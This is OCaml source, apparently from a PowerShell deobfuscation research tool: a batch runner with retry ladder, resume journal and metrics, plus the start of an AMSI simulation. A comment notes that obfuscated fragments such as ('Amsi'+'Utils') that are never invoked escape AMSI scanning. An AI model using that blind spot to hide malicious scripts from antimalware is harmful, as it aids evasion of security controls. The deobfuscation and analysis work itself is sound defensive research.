  | Full -> "full"
  | Static -> "static"
  | Token_only -> "token-only"
  | Passthrough -> "passthrough"

let weaker = function
  | Full -> Some Static
  | Static -> Some Token_only
  | Token_only -> Some Passthrough
  | Passthrough -> None

(* each rung strips the pipeline further: Static drops piece execution and
   the provenance-guided dynamic phase (the latter runs outside the fixpoint,
   so max_iterations = 0 alone would not strip it), Token_only additionally
   drops renaming and reformatting, Passthrough does not run the engine at
   all *)
let mode_options base = function
  | Full | Passthrough -> base
  | Static ->
      { base with
        Engine.max_iterations = 0;
        recovery = { base.Engine.recovery with Engine.use_dynamic = false } }
  | Token_only ->
      { base with
        Engine.max_iterations = 0;
        recovery = { base.Engine.recovery with Engine.use_dynamic = false };
        rename = false;
        reformat = false }

type outcome = {
  file : string;
  output_file : string option;
  wall_ms : float;
  phase_ms : (string * float) list;
  iterations : int;
  changed : bool;
  failures : Engine.failure_site list;
  stats : Recover.stats;
  degraded_mode : mode;
  retries : int;
  regions_total : int;
  regions_recovered : int;
  verdict : Verify.verdict option;
  resumed : bool;
}

type summary = {
  total : int;
  clean : int;
  degraded : int;
  wall_ms : float;
  jobs_requested : int;
  jobs_effective : int;
  cache_stats : Recover.Cache.stats option;
  outcomes : outcome list;
}

(* ---------- JSON rendering (reuses Report's dependency-free helpers) ---------- *)

let failure_to_json (site : Engine.failure_site) =
  Printf.sprintf "{\"phase\": %s, \"kind\": %s, \"detail\": %s}"
    (Report.json_string site.Engine.phase)
    (Report.json_string (Guard.failure_label site.Engine.failure))
    (Report.json_string (Guard.failure_to_string site.Engine.failure))

let stats_to_json (s : Recover.stats) =
  Printf.sprintf
    "{\"pieces_recovered\": %d, \"variables_substituted\": %d, \
     \"layers_unwrapped\": %d, \"pieces_attempted\": %d, \
     \"pieces_blocked\": %d, \"cache_hits\": %d, \
     \"dynamic_attempted\": %d, \"dynamic_recovered\": %d, \
     \"dynamic_unverifiable\": %d}"
    s.Recover.pieces_recovered s.Recover.variables_substituted
    s.Recover.layers_unwrapped s.Recover.pieces_attempted
    s.Recover.pieces_blocked s.Recover.cache_hits s.Recover.dynamic_attempted
    s.Recover.dynamic_recovered s.Recover.dynamic_unverifiable

let phase_ms_to_json phases =
  Printf.sprintf "{%s}"
    (String.concat ", "
       (List.map
          (fun (phase, ms) ->
            Printf.sprintf "%s: %.1f" (Report.json_string phase) ms)
          phases))

let outcome_to_json o =
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"file\": %s," (Report.json_string o.file);
      Printf.sprintf "  \"status\": %s,"
        (Report.json_string (if o.failures = [] then "ok" else "degraded"));
      Printf.sprintf "  \"wall_ms\": %.1f," o.wall_ms;
      Printf.sprintf "  \"phase_ms\": %s," (phase_ms_to_json o.phase_ms);
      Printf.sprintf "  \"iterations\": %d," o.iterations;
      Printf.sprintf "  \"changed\": %b," o.changed;
      Printf.sprintf "  \"degraded_mode\": %s,"
        (Report.json_string (mode_name o.degraded_mode));
      Printf.sprintf "  \"retries\": %d," o.retries;
      Printf.sprintf "  \"verdict\": %s,"
        (match o.verdict with
        | None -> "null"
        | Some v -> Report.json_string (Verify.verdict_name v));
      Printf.sprintf "  \"verdict_detail\": %s,"
        (match Option.bind o.verdict Verify.verdict_detail with
        | None -> "null"
        | Some d -> Report.json_string d);
      Printf.sprintf "  \"resumed\": %b," o.resumed;
      Printf.sprintf "  \"regions_total\": %d," o.regions_total;
      Printf.sprintf "  \"regions_recovered\": %d," o.regions_recovered;
      Printf.sprintf "  \"failures\": [%s],"
        (String.concat ", " (List.map failure_to_json o.failures));
      Printf.sprintf "  \"stats\": %s," (stats_to_json o.stats);
      Printf.sprintf "  \"output_file\": %s"
        (match o.output_file with
        | Some p -> Report.json_string p
        | None -> "null");
      "}";
    ]

let summary_to_json s =
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"total\": %d," s.total;
      Printf.sprintf "  \"clean\": %d," s.clean;
      Printf.sprintf "  \"degraded\": %d," s.degraded;
      Printf.sprintf "  \"wall_ms\": %.1f," s.wall_ms;
      Printf.sprintf "  \"jobs_requested\": %d," s.jobs_requested;
      Printf.sprintf "  \"jobs_effective\": %d," s.jobs_effective;
      Printf.sprintf "  \"outcomes\": [\n%s\n  ]"
        (String.concat ",\n" (List.map outcome_to_json s.outcomes));
      "}";
    ]

(* ---------- crash-safe resume journal ---------- *)

(* [manifest.jsonl]: one JSON object per line, appended under a lock —
   "started" when a file begins processing, "done" when its outcome is
   decided.  A later [--resume] run skips files whose "done" entry matches
   the current input digest and options fingerprint, was clean, and whose
   output file still exists — an interrupted batch picks up where it died
   without recomputing (or rewriting) anything already produced, so the
   output directory ends up byte-identical to an uninterrupted run. *)

let manifest_name = "manifest.jsonl"

type done_entry = {
  d_digest : string;
  d_options : string;
  d_clean : bool;
  d_changed : bool;
  d_verdict : string option;
  d_detail : string option;
  d_rolled : int;
  d_mode : string;
  d_output : string option;
}

type journal = {
  j_path : string;
  j_lock : Mutex.t;
  j_options : string;  (* fingerprint of this run's options *)
  j_done : (string, done_entry) Hashtbl.t;  (* basename -> last done entry *)
}

(* any knob that can change an output byte or a verdict participates *)
let options_fingerprint ~options ~timeout_s ~max_output_bytes ~verify =
  Digest.to_hex
    (Digest.string
       (Marshal.to_string (options, timeout_s, max_output_bytes, verify) []))

(* The persistent piece tier is only sound between runs that would evaluate
   pieces identically, so its fingerprint covers the cache format version
   and every evaluation-relevant knob.  [verify] is deliberately absent:
   the gate replays the same pieces, it does not change their results. *)
let piece_cache_fingerprint ~options ~timeout_s ~max_output_bytes =
  Digest.to_hex
    (Digest.string
       (Marshal.to_string
          ("piece-cache-v1", options, timeout_s, max_output_bytes) []))

(* field extraction for our own single-line manifest entries lives in
   {!Jsonl} (shared with the serve daemon's NDJSON protocol); a malformed
   line simply fails to match *)
let string_field = Jsonl.string_field
let int_field = Jsonl.int_field
let bool_field = Jsonl.bool_field

let journal_load path =
  let tbl = Hashtbl.create 64 in
  (match
     Guard.protect (fun () ->
         In_channel.with_open_bin path In_channel.input_all)
   with
  | Error _ -> ()
  | Ok text ->
      List.iter
        (fun line ->
          if string_field line "status" = Some "done" then
            match
              ( string_field line "file",
                string_field line "digest",
                string_field line "options" )
            with
            | Some f, Some d, Some o ->
                (* replace: the last entry for a file wins *)
                Hashtbl.replace tbl f
                  {
                    d_digest = d;
                    d_options = o;
                    d_clean =
                      Option.value ~default:false (bool_field line "clean");
                    d_changed =
                      Option.value ~default:false (bool_field line "changed");
                    d_verdict = string_field line "verdict";
                    d_detail = string_field line "verdict_detail";
                    d_rolled =
                      Option.value ~default:0 (int_field line "rolled_back");
                    d_mode =
                      Option.value ~default:"full"
                        (string_field line "degraded_mode");
                    d_output = string_field line "output_file";
                  }
            | _ -> ())
        (String.split_on_char '\n' text));
  tbl

(* direct append, not [write_file]: journaling must not draw chaos probes,
   so injection stays a pure function of the probe sites the real work hits *)
let journal_append j line =
  ignore
    (Guard.protect (fun () ->
         Mutex.lock j.j_lock;
         Fun.protect
           ~finally:(fun () -> Mutex.unlock j.j_lock)
           (fun () ->
             let oc =
               open_out_gen
                 [ Open_wronly; Open_append; Open_creat; Open_binary ]
                 0o644 j.j_path
             in
             Fun.protect
               ~finally:(fun () -> close_out oc)
               (fun () ->
                 output_string oc line;
                 output_char oc '\n'))))

let started_line j ~file ~digest =
  Printf.sprintf
    "{\"status\": \"started\", \"file\": %s, \"digest\": %s, \"options\": %s}"
    (Report.json_string file) (Report.json_string digest)
    (Report.json_string j.j_options)

let outcome_clean o =
  o.failures = [] && o.retries = 0 && o.verdict <> Some Verify.Diverged

let done_line j ~digest (o : outcome) =
  Printf.sprintf
    "{\"status\": \"done\", \"file\": %s, \"digest\": %s, \"options\": %s, \
     \"clean\": %b, \"changed\": %b, \"verdict\": %s, \"verdict_detail\": \
     %s, \"rolled_back\": %d, \"degraded_mode\": %s, \"output_file\": %s}"
    (Report.json_string (Filename.basename o.file))
    (Report.json_string digest)
    (Report.json_string j.j_options)
    (outcome_clean o) o.changed
    (match o.verdict with
    | None -> "null"
    | Some v -> Report.json_string (Verify.verdict_name v))
    (match o.verdict with
    | Some (Verify.Unverifiable reason) -> Report.json_string reason
    | _ -> "null")
    (match o.verdict with Some (Verify.Rolled_back n) -> n | _ -> 0)
    (Report.json_string (mode_name o.degraded_mode))
    (match o.output_file with
    | Some p -> Report.json_string p
    | None -> "null")

let verdict_of_entry (e : done_entry) =
  match e.d_verdict with
  | Some "equivalent" -> Some Verify.Equivalent
  | Some "rolled_back" -> Some (Verify.Rolled_back e.d_rolled)
  | Some "diverged" -> Some Verify.Diverged
  | Some "unverifiable" ->
      Some (Verify.Unverifiable (Option.value ~default:"" e.d_detail))
  | Some _ | None -> None

let mode_of_name = function
  | "static" -> Static
  | "token-only" -> Token_only
  | "passthrough" -> Passthrough
  | _ -> Full

let resume_hit journal ~file ~digest =
  match journal with
  | None -> None
  | Some j -> (
      match Hashtbl.find_opt j.j_done (Filename.basename file) with
      | Some e
        when e.d_digest = digest && e.d_options = j.j_options && e.d_clean
             && (match e.d_output with
                | Some p -> Sys.file_exists p
                | None -> true) ->
          Some e
      | _ -> None)

(* ---------- per-file isolation ---------- *)

let write_file path content =
  Chaos.probe "batch.write";
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

(* the Passthrough rung: the engine is not run at all, the input is the
   output — the ladder's unconditional floor *)
let passthrough_guarded src =
  { Engine.result =
      { Engine.output = src; stats = Recover.new_stats (); iterations = 0;
        changed = false };
    failures = []; timings = []; regions_total = 0; regions_recovered = 0;
    edit_log = [] }

(* Walk the ladder: run an attempt, and when it degrades for any reason a
   weaker mode could dodge (anything but [Parse_failure] — no rung parses
   better than a stronger one, and partial recovery already made its best
   effort on the parse), retry one rung down with a fresh deadline.
   Failures accumulate across attempts so the report shows the whole
   descent; [Passthrough] cannot fail, so the walk terminates clean. *)
let run_ladder ?options ?cache ~timeout_s ?max_output_bytes src =
  let base = Option.value options ~default:Engine.default_options in
  let rec walk mode retries acc_failures =
    let guarded =
      match mode with
      | Passthrough -> passthrough_guarded src
      | m ->
          Engine.run_guarded ~options:(mode_options base m) ?cache ~timeout_s
            ?max_output_bytes src
    in
    let failures = acc_failures @ guarded.Engine.failures in
    let retryable =
      List.exists
        (fun (s : Engine.failure_site) ->
          s.Engine.failure <> Guard.Parse_failure)
        guarded.Engine.failures
    in
    match (retryable, weaker mode) with
    | true, Some next ->
        T.Metrics.incr (T.Metrics.counter "batch.ladder.retries");
        if T.active () then
          T.event "batch.retry"
            ~attrs:
              [ ("from", T.S (mode_name mode));
                ("to", T.S (mode_name next)) ];
        walk next (retries + 1) failures
    | _ -> (mode, retries, failures, guarded)
  in
  walk Full 0 []

(* The shared request core: everything between "we have source text" and
   "we have an outcome plus output text".  Batch file processing and the
   serve daemon both go through it, so a service request walks the same
   retry ladder and semantic gate as a batch file — one hardening path,
   two transports. *)
let run_source ?options ?(timeout_s = 30.0) ?max_output_bytes ?cache
    ?(verify = false) ?verify_opts ~name src =
  let started = Guard.now () in
  (* quarantine scope: admission decisions (which rules may run) are fixed
     for the whole request — including the ladder's weaker rungs and the
     gate's rollback re-runs — and the verdict's rolled-back rule names
     feed the breakers when the scope closes.  No-op while disabled. *)
  Quarantine.begin_request ();
  let finish_quarantine rolled = Quarantine.end_request ~rolled_rules:rolled in
  match
    let mode, retries, ladder_failures, guarded =
      run_ladder ?options ?cache ~timeout_s ?max_output_bytes src
    in
    (* the semantic gate verifies (and on divergence rolls back) the rung
       that produced the output; its re-runs repeat that same rung, with the
       same piece cache, so replayed pieces stay byte-identical *)
    let guarded, verdict, rolled_rules =
      if not verify then (guarded, None, [])
      else
        let base = Option.value options ~default:Engine.default_options in
        let rerun ~suppress =
          match mode with
          | Passthrough -> passthrough_guarded src
          | m ->
              Engine.run_guarded ~options:(mode_options base m) ?cache
                ~timeout_s ?max_output_bytes ~suppress src
        in
        let g, o = Verify.gate ?opts:verify_opts ~rerun ~src guarded in
        (g, Some o.Verify.verdict, o.Verify.rolled_rules)
    in
    (mode, retries, ladder_failures, guarded, verdict, rolled_rules)
  with
  | exception e ->
      Quarantine.abort_request ();
      raise e
  | mode, retries, ladder_failures, guarded, verdict, rolled_rules ->
  finish_quarantine rolled_rules;
  (* a diverged verdict is exactly the situation the flight recorder
     exists for: the spans of the run whose semantics the gate rejected *)
  (match verdict with
  | Some Verify.Diverged ->
      ignore (T.Flight.dump ~reason:"verify-diverged" ())
  | _ -> ());
  let result = guarded.Engine.result in
  ( { file = name; output_file = None;
      wall_ms = (Guard.now () -. started) *. 1000.0;
      phase_ms = guarded.Engine.timings;
      iterations = result.Engine.iterations; changed = result.Engine.changed;
      failures = ladder_failures; stats = result.Engine.stats;
      degraded_mode = mode; retries;
      regions_total = guarded.Engine.regions_total;
      regions_recovered = guarded.Engine.regions_recovered;
      verdict; resumed = false },
    result.Engine.output )

let process_file_inner ?options ?(timeout_s = 30.0) ?max_output_bytes ?cache
    ?out_dir ?(verify = false) ?verify_opts ?journal file =
  let started = Guard.now () in
  let finish ?output_file ?(phase_ms = []) ?(degraded_mode = Full)
      ?(retries = 0) ?(regions = (0, 0)) ?(verdict = None) ?(resumed = false)
      ~iterations ~changed ~stats failures =
    { file; output_file; wall_ms = (Guard.now () -. started) *. 1000.0;
      phase_ms; iterations; changed; failures; stats; degraded_mode; retries;
      regions_total = fst regions; regions_recovered = snd regions;
      verdict; resumed }
  in
  match
    Guard.protect (fun () ->
        Chaos.probe "batch.read";
        In_channel.with_open_bin file In_channel.input_all)
  with
  | Error failure ->
      finish ~iterations:0 ~changed:false ~stats:(Recover.new_stats ())
        [ { Engine.phase = "read"; failure } ]
  | Ok src -> (
      let digest = Digest.to_hex (Digest.string src) in
      match resume_hit journal ~file ~digest with
      | Some e ->
          (* journaled clean result with matching input and options, output
             still on disk: keep it, byte for byte *)
          T.Metrics.incr (T.Metrics.counter "batch.resume.skipped");
          finish ?output_file:e.d_output ~degraded_mode:(mode_of_name e.d_mode)
            ~verdict:(verdict_of_entry e) ~resumed:true ~iterations:0
            ~changed:e.d_changed ~stats:(Recover.new_stats ()) []
      | None ->
      Option.iter
        (fun j ->
          journal_append j (started_line j ~file:(Filename.basename file) ~digest))
        journal;
      (* the guarded engine is total; the outer protect is the backstop for
         anything outside it (e.g. report writing) *)
      let core, output =
        run_source ?options ~timeout_s ?max_output_bytes ?cache ~verify
          ?verify_opts ~name:file src
      in
      let output_file, write_failure =
        match out_dir with
        | None -> (None, None)
        | Some dir -> (
            let path = Filename.concat dir (Filename.basename file) in
            match Guard.protect (fun () -> write_file path output) with
            | Ok () -> (Some path, None)
            | Error failure ->
                (* a failed write is a real degradation — surfaced as a
                   structured site, not a silent [None] *)
                (None, Some { Engine.phase = "write"; failure }))
      in
      let outcome =
        { core with
          output_file;
          failures = core.failures @ Option.to_list write_failure;
          (* re-measured here so the file outcome also covers read + write *)
          wall_ms = (Guard.now () -. started) *. 1000.0 }
      in
      Option.iter (fun j -> journal_append j (done_line j ~digest outcome)) journal;
      (match (out_dir, outcome.failures) with
      | Some dir, _ :: _ ->
          let report_path =
            Filename.concat dir (Filename.basename file ^ ".failures.json")
          in
          ignore
            (Guard.protect (fun () ->
                 write_file report_path (outcome_to_json outcome ^ "\n")))
      | _ -> ());
      outcome)

(* Reusable per-domain ring for unsampled traced runs: spans still record
   (ambient instrumentation stays exercised, and the trace could be dumped
   from a debugger), but nothing serializes to JSONL — the dominant cost
   of tracing — and the 64k-slot ring is allocated once per domain, not
   once per file. *)
let scratch_trace : T.trace Domain.DLS.key =
  Domain.DLS.new_key (fun () -> T.create ())

let process_file ?options ?timeout_s ?max_output_bytes ?cache ?out_dir
    ?trace_dir ?(sampled = true) ?verify ?verify_opts ?journal file =
  (* Scope the chaos stream to the file: injection becomes a pure function
     of (seed, basename, probe order), so a file draws the same faults no
     matter which pool domain ran it or in what order — outputs under
     injection stay byte-identical across --jobs levels.  Traced runs draw
     one extra probe (the trace write), but only after the output is
     already decided, so traced/untraced byte-identity holds too. *)
  Chaos.with_scope (Filename.basename file) @@ fun () ->
  (* one trace id per input file, installed as the domain's ambient request
     id: per-file traces adopt it, flight entries stamp it.  Observation
     only — the id draws from a process counter, never the chaos stream,
     so outputs stay byte-identical across --jobs levels. *)
  T.with_request_id (T.new_trace_id ()) @@ fun () ->
  let task () =
    (* the "pool.task" probe models a fault in the worker itself, outside
       every engine guard; the protect in [contained] below is what keeps
       it from crashing the pool *)
    Chaos.probe "pool.task";
    match trace_dir with
    | None ->
        process_file_inner ?options ?timeout_s ?max_output_bytes ?cache
          ?out_dir ?verify ?verify_opts ?journal file
    | Some _ when not sampled ->
        (* unsampled: record into the domain's scratch ring, skip the
           JSONL serialization — the trace machinery runs, the bytes
           don't land *)
        let trace = Domain.DLS.get scratch_trace in
        T.reset trace;
        T.with_trace trace (fun () ->
            T.span ~attrs:[ ("file", T.S file) ] "batch.file" (fun () ->
                process_file_inner ?options ?timeout_s ?max_output_bytes
                  ?cache ?out_dir ?verify ?verify_opts ?journal file))
    | Some dir ->
        (* one event stream per input: the trace is created in (and private
           to) whichever pool domain runs this file, installed as that
           domain's ambient context for the duration, and serialized next to
           the other per-file reports.  Tracing is observation only, so the
           deobfuscated output is byte-identical to an untraced run. *)
        let trace = T.create () in
        let outcome =
          T.with_trace trace (fun () ->
              T.span ~attrs:[ ("file", T.S file) ] "batch.file" (fun () ->
                  process_file_inner ?options ?timeout_s ?max_output_bytes
                    ?cache ?out_dir ?verify ?verify_opts ?journal file))
        in
        let path = Filename.concat dir (Filename.basename file ^ ".trace.jsonl") in
        ignore (Guard.protect (fun () -> write_file path (T.to_jsonl trace)));
        outcome
  in
  (* backstop: Pool.map re-raises worker exceptions at join, so anything
     escaping the per-file pipeline (an injected pool fault, a bug in
     report writing) must be converted here into a structured outcome
     rather than aborting the whole batch *)
  match Guard.protect task with
  | Ok outcome -> outcome
  | Error failure ->
      (* black box before the structured outcome: whatever the domain's
         flight ring holds about this file is about to be overwritten by
         the next one *)
      ignore
        (T.Flight.dump
           ~reason:("pool.task/" ^ Guard.failure_label failure)
           ());
      { file; output_file = None; wall_ms = 0.0; phase_ms = [];
        iterations = 0; changed = false;
        failures = [ { Engine.phase = "task"; failure } ];
        stats = Recover.new_stats (); degraded_mode = Full; retries = 0;
        regions_total = 0; regions_recovered = 0; verdict = None;
        resumed = false }

(* mkdir -p semantics: creates missing ancestors, accepts an existing
   directory, and fails when any component exists as a non-directory. *)
let rec ensure_dir dir =
  if Sys.file_exists dir then begin
    if not (Sys.is_directory dir) then
      failwith (Printf.sprintf "not a directory: %s" dir)
  end
  else begin
    let parent = Filename.dirname dir in
    if parent <> dir && not (Sys.file_exists parent) then ensure_dir parent;
    try Sys.mkdir dir 0o755
    with Sys_error _ when Sys.is_directory dir ->
      (* lost a race to a sibling worker creating the same directory *)
      ()
  end

let run_files ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir
    ?trace_sample ?(jobs = 1) ?(verify = true) ?verify_opts ?(resume = false)
    ?piece_cache_dir files =
  let started = Guard.now () in
  (* more domains than cores only adds scheduler churn (and, on a small
     machine, cold caches); the requested level is still reported so the
     clamp is visible in the summary *)
  let jobs_effective = max 1 (min jobs (Pool.recommended_jobs ())) in
  (* the process-global metrics registry becomes a per-run rollup: zeroed
     here, aggregated across every pool domain, snapshotted by metrics_json *)
  T.Metrics.reset ();
  let ensure_failure = function
    | None -> None
    | Some dir -> (
        match Guard.protect (fun () -> ensure_dir dir) with
        | Ok () -> None
        | Error failure -> Some { Engine.phase = "write"; failure })
  in
  let dir_failure =
    match ensure_failure out_dir with
    | Some site -> Some site
    | None -> ensure_failure trace_dir
  in
  (* the journal lives next to the outputs; without an output directory
     there is nothing durable to resume onto *)
  let journal =
    match (out_dir, dir_failure) with
    | Some dir, None ->
        let path = Filename.concat dir manifest_name in
        let j_done =
          if resume then journal_load path
          else begin
            (* a fresh run starts a fresh journal *)
            ignore
              (Guard.protect (fun () ->
                   Out_channel.with_open_bin path (fun _ -> ())));
            Hashtbl.create 1
          end
        in
        Some
          { j_path = path; j_lock = Mutex.create ();
            j_options =
              options_fingerprint ~options ~timeout_s ~max_output_bytes
                ~verify;
            j_done }
    | _ -> None
  in
  (* one content-addressed piece cache for the whole run, shared by every
     pool domain; with [piece_cache_dir] it also reads and writes the
     persistent tier, so a later run starts warm.  An unusable cache
     directory degrades to the in-memory tiers — caching is an
     accelerator, never a reason to fail the batch. *)
  let cache =
    let dir =
      Option.bind piece_cache_dir (fun dir ->
          match Guard.protect (fun () -> ensure_dir dir) with
          | Ok () -> Some dir
          | Error _ -> None)
    in
    Recover.Cache.create ?dir
      ~fingerprint:
        (piece_cache_fingerprint ~options ~timeout_s ~max_output_bytes)
      ()
  in
  let outcomes =
    match dir_failure with
    | Some site ->
        (* the output directory is unusable: report every file as a
           structured write failure instead of crashing or silently
           dropping the outputs *)
        List.map
          (fun file ->
            { file; output_file = None; wall_ms = 0.0; phase_ms = [];
              iterations = 0; changed = false; failures = [ site ];
              stats = Recover.new_stats (); degraded_mode = Full; retries = 0;
              regions_total = 0; regions_recovered = 0; verdict = None;
              resumed = false })
          files
    | None ->
        (* outcomes come back input-ordered regardless of which domain ran
           which file, so reports and outputs are deterministic — and so is
           trace sampling, which keys on the input index, not on which
           domain or in what order a file happened to run *)
        Pool.map ~jobs:jobs_effective
          (fun (i, file) ->
            let sampled =
              match trace_sample with
              | Some n when n > 1 -> i mod n = 0
              | _ -> true
            in
            process_file ?options ?timeout_s ?max_output_bytes ~cache
              ?out_dir ?trace_dir ~sampled ~verify ?verify_opts ?journal file)
          (List.mapi (fun i file -> (i, file)) files)
  in
  (* clean means clean at full strength: no contained failures and no trip
     down the retry ladder (retries > 0 implies failures <> [], since
     failures accumulate across attempts, but the predicate states the
     contract explicitly) *)
  let clean =
    List.length
      (List.filter (fun o -> o.failures = [] && o.retries = 0) outcomes)
  in
  {
    total = List.length outcomes;
    clean;
    degraded = List.length outcomes - clean;
    wall_ms = (Guard.now () -. started) *. 1000.0;
    jobs_requested = jobs;
    jobs_effective;
    cache_stats = Some (Recover.Cache.stats cache);
    outcomes;
  }

(* ---------- run-level metrics rollup ---------- *)

let sum_stats f outcomes =
  List.fold_left (fun acc o -> acc + f o.stats) 0 outcomes

let diverged_count s =
  List.length
    (List.filter (fun o -> o.verdict = Some Verify.Diverged) s.outcomes)

let verdict_counts outcomes =
  let count name =
    List.length
      (List.filter
         (fun o ->
           match o.verdict with
           | Some v -> Verify.verdict_name v = name
           | None -> false)
         outcomes)
  in
  [
    ("equivalent", count "equivalent");
    ("rolled_back", count "rolled_back");
    ("diverged", count "diverged");
    ("unverifiable", count "unverifiable");
    ("off", List.length (List.filter (fun o -> o.verdict = None) outcomes));
  ]

(* counts of contained failures keyed "phase/kind", sorted *)
let failure_site_counts outcomes =
  let tbl = Hashtbl.create 16 in
  List.iter
    (fun o ->
      List.iter
        (fun (site : Engine.failure_site) ->
          let key =
            site.Engine.phase ^ "/" ^ Guard.failure_label site.Engine.failure
          in
          Hashtbl.replace tbl key (1 + Option.value ~default:0 (Hashtbl.find_opt tbl key)))
        o.failures)
    outcomes;
  Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl []
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

let phase_totals outcomes =
  List.fold_left
    (fun acc o ->
      List.fold_left
        (fun acc (phase, ms) ->
          let prev = Option.value ~default:0.0 (List.assoc_opt phase acc) in
          (phase, prev +. ms) :: List.remove_assoc phase acc)
        acc o.phase_ms)
    [] outcomes
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

(** The run-level observability rollup written as [metrics.json]: failure
    sites, cache hit-rate, per-phase wall totals, and the full metrics
    snapshot (counters, gauges, latency histograms) aggregated across every
    pool domain of the run. *)
let metrics_json s =
  let attempted = sum_stats (fun st -> st.Recover.pieces_attempted) s.outcomes in
  let hits = sum_stats (fun st -> st.Recover.cache_hits) s.outcomes in
  let hit_rate =
    if attempted = 0 then 0.0 else float_of_int hits /. float_of_int attempted
  in
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"total\": %d," s.total;
      Printf.sprintf "  \"clean\": %d," s.clean;
      Printf.sprintf "  \"degraded\": %d," s.degraded;
      Printf.sprintf "  \"wall_ms\": %.1f," s.wall_ms;
      Printf.sprintf "  \"failure_sites\": {%s},"
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s: %d" (Report.json_string k) n)
              (failure_site_counts s.outcomes)));
      (* per-piece counters from the outcomes plus the shared cache's own
         view: occupancy, generation-flip evictions, and how many hits the
         persistent tier answered *)
      (let cs =
         Option.value
           ~default:
             { Recover.Cache.entries = 0; hits = 0; lookups = 0;
               evictions = 0; persistent_loads = 0 }
           s.cache_stats
       in
       Printf.sprintf
         "  \"cache\": {\"pieces_attempted\": %d, \"cache_hits\": %d, \
          \"hit_rate\": %.3f, \"entries\": %d, \"lookups\": %d, \
          \"hits\": %d, \"evictions\": %d, \"persistent_loads\": %d},"
         attempted hits hit_rate cs.Recover.Cache.entries
         cs.Recover.Cache.lookups cs.Recover.Cache.hits
         cs.Recover.Cache.evictions cs.Recover.Cache.persistent_loads);
      Printf.sprintf "  \"jobs\": {\"requested\": %d, \"effective\": %d},"
        s.jobs_requested s.jobs_effective;
      Printf.sprintf "  \"phase_ms_total\": {%s},"
        (String.concat ", "
           (List.map
              (fun (p, ms) -> Printf.sprintf "%s: %.1f" (Report.json_string p) ms)
              (phase_totals s.outcomes)));
      (* how far down the ladder the run had to go, and how much text the
         partial-parse recovery salvaged *)
      Printf.sprintf "  \"degraded_modes\": {%s},"
        (String.concat ", "
           (List.map
              (fun m ->
                Printf.sprintf "%s: %d"
                  (Report.json_string (mode_name m))
                  (List.length
                     (List.filter (fun o -> o.degraded_mode = m) s.outcomes)))
              [ Full; Static; Token_only; Passthrough ]));
      Printf.sprintf "  \"retries_total\": %d,"
        (List.fold_left (fun acc o -> acc + o.retries) 0 s.outcomes);
      (* the semantic gate's verdict distribution and how much of the run
         was answered from the resume journal *)
      Printf.sprintf "  \"verify\": {%s},"
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s: %d" (Report.json_string k) n)
              (verdict_counts s.outcomes)));
      Printf.sprintf "  \"resumed\": %d,"
        (List.length (List.filter (fun o -> o.resumed) s.outcomes));
      (* dynamic-recovery funnel: regions attempted, regions replaced by
         provenance-mapped literals, regions the gate later rolled back
         (from the run-local metrics registry), and regions degraded to
         static-only *)
      Printf.sprintf
        "  \"dynamic\": {\"attempted\": %d, \"recovered\": %d, \
         \"rolled_back\": %d, \"unverifiable\": %d},"
        (sum_stats (fun st -> st.Recover.dynamic_attempted) s.outcomes)
        (sum_stats (fun st -> st.Recover.dynamic_recovered) s.outcomes)
        (T.Metrics.counter_value (T.Metrics.counter "verify.dynamic_rolled_back"))
        (sum_stats (fun st -> st.Recover.dynamic_unverifiable) s.outcomes);
      Printf.sprintf
        "  \"regions\": {\"total\": %d, \"recovered\": %d},"
        (List.fold_left (fun acc o -> acc + o.regions_total) 0 s.outcomes)
        (List.fold_left (fun acc o -> acc + o.regions_recovered) 0 s.outcomes);
      (* self-healing state: which rules the adaptive quarantine currently
         distrusts, and where the heap sits against the governor's
         watermarks *)
      Printf.sprintf "  \"quarantine\": {\"enabled\": %b, \"rules\": {%s}},"
        (Quarantine.enabled ())
        (String.concat ", "
           (List.map
              (fun (rule, st) ->
                Printf.sprintf "%s: %s" (Report.json_string rule)
                  (Report.json_string st))
              (Quarantine.snapshot ())));
      Printf.sprintf "  \"memory\": %s," (Pscommon.Memwatch.to_json ());
      Printf.sprintf "  \"metrics\": %s"
        (T.Metrics.snapshot_to_json (T.Metrics.snapshot ()));
      "}";
    ]

let run_dir ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir
    ?trace_sample ?jobs ?verify ?verify_opts ?resume ?piece_cache_dir dir =
  let files =
    match Guard.protect (fun () -> Sys.readdir dir) with
    | Error _ -> []
    | Ok names ->
        Array.to_list names |> List.sort String.compare
        |> List.map (Filename.concat dir)
        |> List.filter (fun p ->
               match Guard.protect (fun () -> Sys.is_directory p) with
               | Ok is_dir -> not is_dir
               | Error _ -> false)
  in
  let summary =
    run_files ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir
      ?trace_sample ?jobs ?verify ?verify_opts ?resume ?piece_cache_dir files
  in
  (match out_dir with
  | Some out ->
      ignore
        (Guard.protect (fun () ->
             write_file
               (Filename.concat out "batch_report.json")
               (summary_to_json summary ^ "\n")));
      ignore
        (Guard.protect (fun () ->
             write_file
               (Filename.concat out "metrics.json")
               (metrics_json summary ^ "\n")))
  | None -> ());
  summary
