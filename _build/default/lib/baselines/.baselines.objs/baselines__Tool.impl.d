lib/baselines/tool.ml: List Pseval
