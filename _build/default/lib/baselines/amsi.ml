(** AMSI simulation (paper §V-B).

    The Antimalware Scan Interface sees every script string that is
    ultimately supplied to the scripting engine: whenever any spelling of
    [Invoke-Expression] — or a [powershell -EncodedCommand] child — runs,
    the decoded payload passes through AMSI.  Unlike the overriding-function
    tools, the hook fires for {e obfuscated} spellings too, because it sits
    below name resolution.

    Its inherent limitation, which the paper uses to position
    Invoke-Deobfuscation: obfuscated pieces that are {e never invoked}
    ([('Amsi'+'Utils')] computed into a variable, string fragments passed to
    APIs directly) are never seen, so AMSI output covers only the
    invoke-reaching subset of the script. *)

module Value = Psvalue.Value

type capture = {
  layers : string list;  (** every script string that reached the engine *)
  events : Pseval.Env.event list;
}

(** Run a script recording what the engine gets to see.  The script itself
    is the first layer; each IEX/child-powershell payload is appended. *)
let scan ?(max_steps = 400_000) script =
